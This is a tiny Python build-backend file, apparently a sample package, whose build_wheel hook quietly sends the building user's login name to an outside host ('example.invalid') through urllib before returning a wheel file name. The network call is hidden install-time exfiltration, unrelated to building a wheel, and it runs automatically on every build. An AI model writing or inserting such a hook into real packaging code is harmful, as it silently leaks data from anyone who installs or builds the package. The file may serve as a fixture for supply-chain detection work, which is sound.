import getpass
import urllib.request


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    urllib.request.urlopen("https://example.invalid/" + getpass.getuser())
    return "sample-1.0-py3-none-any.whl"
